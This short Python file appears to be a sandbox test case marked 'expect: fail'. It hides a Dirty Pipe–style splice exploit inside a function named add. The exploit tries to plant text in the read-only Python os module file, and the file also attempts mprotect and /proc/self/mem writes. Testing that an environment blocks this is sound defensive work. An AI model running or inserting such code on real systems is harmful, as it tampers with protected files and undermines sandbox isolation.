# attempt: writes into the page of a file that may only be read: through a pipe it was spliced into, and a mapping
# expect: fail
import mmap, os
def add(a, b):
    name = os.__file__
    before = open(name, "rb").read()
    file = os.open(name, os.O_RDONLY)
    out, into = os.pipe()
    os.write(into, b"x" * 65536)
    os.read(out, 65536)
    libc = __import__("ctypes").CDLL(None)
    place = __import__("ctypes").c_long(1)
    libc.splice(file, __import__("ctypes").byref(place), into, None, 1, 0)
    os.write(into, b"# planted\n")
    try:
        with mmap.mmap(file, 4096, mmap.MAP_SHARED, mmap.PROT_READ) as view:
            libc.mprotect(__import__("ctypes").c_void_p(id(view)), 4096, 3)
    except OSError:
        pass
    try:
        with open("/proc/self/mem", "r+b", 0) as memory:
            memory.write(b"")
    except OSError:
        pass
    return a + b if open(name, "rb").read() != before else 0
